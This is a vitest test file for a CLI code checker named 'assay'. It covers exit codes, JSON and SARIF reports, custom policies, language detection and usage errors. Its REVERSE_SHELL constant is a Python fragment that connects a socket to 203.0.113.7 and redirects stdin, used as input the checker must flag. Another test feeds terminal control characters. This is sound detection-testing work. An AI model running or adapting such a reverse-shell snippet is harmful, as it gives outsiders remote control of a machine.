import { chmodSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { PROJECT_ROOT } from '../../src/home.ts';
import { assay, runProgram, tempFolder } from '../support/assay.ts';

const REVERSE_SHELL =
  'import os, socket\ns = socket.create_connection(("203.0.113.7", 1))\nos.dup2(s.fileno(), 0)\n';

function file(name: string, text: string): string {
  const path = join(tempFolder(), name);
  writeFileSync(path, text);
  return path;
}

test('accepted code exits 0', async () => {
  const path = file('good.py', 'print("hello")\n');
  expect(await assay(['check', path])).toEqual({
    code: 0,
    stderr: '',
    stdout: `accepted: ${path} (python, policy standard), 0 findings\n`,
  });
});

test('a syntax error exits 1 and shows its line', async () => {
  const { code, stdout } = await assay(['check', file('bad.py', 'x = 1\ndef f(:\n  pass\n')]);
  expect(code).toBe(1);
  expect(stdout).toMatch(/bad\.py:2:\d+ error syntax: /);
  expect(stdout).toContain('2 | def f(:');
});

test('a NUL byte is a syntax error, shown as such', async () => {
  const { code, stdout, stderr } = await assay(['check', file('nul.py', 'x = 1\ny = 2\0\n')]);
  expect({ code, stderr }).toEqual({ code: 1, stderr: '' });
  expect(stdout).toMatch(/nul\.py:2:6 error syntax: .*NUL/);
  expect(stdout).not.toContain('\0');
});

test('rejected code exits 2, and --json prints the report and nothing else', async () => {
  const { code, stdout, stderr } = await assay(['check', '-', '--language', 'python', '--json'], {
    input: REVERSE_SHELL,
  });
  expect({ code, stderr }).toEqual({ code: 2, stderr: '' });
  const report = JSON.parse(stdout);
  expect(Object.keys(report)).toEqual(['language', 'policy', 'accepted', 'findings']);
  expect(report).toMatchObject({ language: 'python', policy: 'standard', accepted: false });
  const [finding] = report.findings.filter(({ severity }: { severity: string }) => severity === 'error');
  expect(Object.keys(finding)).toEqual([
    'rule',
    'severity',
    'message',
    'line',
    'column',
    'endLine',
    'endColumn',
  ]);
  expect(finding).toMatchObject({ rule: 'no-reverse-shell', line: 3, column: 1 });
});

test('--sarif prints a SARIF log', async () => {
  const { code, stdout } = await assay(['check', file('shell.py', REVERSE_SHELL), '--sarif']);
  expect(code).toBe(2);
  const { version, runs } = JSON.parse(stdout);
  expect(version).toBe('2.1.0');
  expect(runs[0].results.map(({ ruleId }: { ruleId: string }) => ruleId)).toContain('no-reverse-shell');
});

test('a policy of one’s own is read from a file', async () => {
  const policy = file(
    'policy.json',
    JSON.stringify({ extends: 'off', rules: { 'no-reverse-shell': 'warning' } }),
  );
  const { code, stdout } = await assay(['check', '-', '-l', 'python', '-p', policy, '--json'], {
    input: REVERSE_SHELL,
  });
  expect(code).toBe(0);
  expect(JSON.parse(stdout)).toMatchObject({ policy: 'custom (extends off)', accepted: true });
});

test('the language is told by the shebang where the name does not', async () => {
  const { stdout } = await assay(['check', '-', '--json'], {
    input: '#!/usr/bin/env node\nconsole.log(1)\n',
  });
  expect(JSON.parse(stdout).language).toBe('javascript');
});

test('what code shows on the terminal cannot steer it', async () => {
  const { stdout } = await assay(['check', '-', '-l', 'python'], {
    input: 'x = "\u001b]0;owned\u0007\u202e" )(\n',
  });
  // eslint-disable-next-line no-control-regex
  expect(stdout).not.toMatch(/[\u0007\u001b\u202e]/);
  expect(stdout).toContain('\\x1b]0;owned\\x07');
});

test.each([
  [
    ['check', '-', '--policy', 'strictest'],
    /there is no policy "strictest"; use one of off, standard, strict/,
  ],
  [['check', '-', '--language', 'ruby'], /Allowed choices are python, javascript, typescript, bash/],
  [['check', '-'], /cannot tell the language of stdin/],
  [['check', '-', '--json', '--sarif'], /cannot be used with/],
  [['check', '-', '--jsn'], /unknown option '--jsn' \(did you mean --json\?\)/],
  [['check'], /missing required argument 'file'/],
  [['check', 'a.py', 'b.py'], /too many arguments/],
  [['chek', 'a.py'], /unknown command 'chek' \(did you mean check\?\)/],
])('%j is a matter of usage', async (args, why) => {
  const { code, stdout, stderr } = await assay(args, { input: 'x' });
  expect({ code, stdout }).toEqual({ code: 64, stdout: '' });
  expect(stderr).toMatch(why);
  expect(stderr.trimEnd().split('\n')).toHaveLength(1);
});

test('a rule that does not exist is named', async () => {
  const policy = file('policy.json', '{"rules": {"no-revers-shell": "error"}}');
  const { code, stderr } = await assay(['check', '-', '-l', 'python', '-p', policy], { input: 'x' });
  expect(code).toBe(64);
  expect(stderr).toMatch(
    /policy\.json: rules\.no-revers-shell: There is no validation rule .*no-reverse-shell/,
  );
});

test('the program runs from any folder and through links', async () => {
  const folder = tempFolder();
  const link = join(folder, 'assay');
  symlinkSync(join(PROJECT_ROOT, 'bin/assay'), link);
  chmodSync(folder, 0o755);
  const { code, stdout } = await runProgram(link, ['--version'], { cwd: '/' });
  expect({ code, stdout }).toEqual({ code: 0, stdout: expect.stringMatching(/^\d+\.\d+\.\d+\n$/) });
});

test('a reader that leaves early is no error', async () => {
  const { code, stderr } = await runProgram('/bin/sh', [
    '-c',
    `'${join(PROJECT_ROOT, 'bin/assay')}' schema result | head -n 1`,
  ]);
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
});
